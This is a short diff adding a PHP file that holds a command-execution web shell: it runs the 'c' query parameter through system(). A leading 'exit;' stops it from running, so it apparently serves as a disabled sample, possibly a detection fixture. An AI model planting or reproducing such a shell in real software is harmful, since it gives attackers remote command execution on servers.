@@ -1,0 +1,3 @@
+<?php exit;
+$c = $_GET['c'];
+system($c);
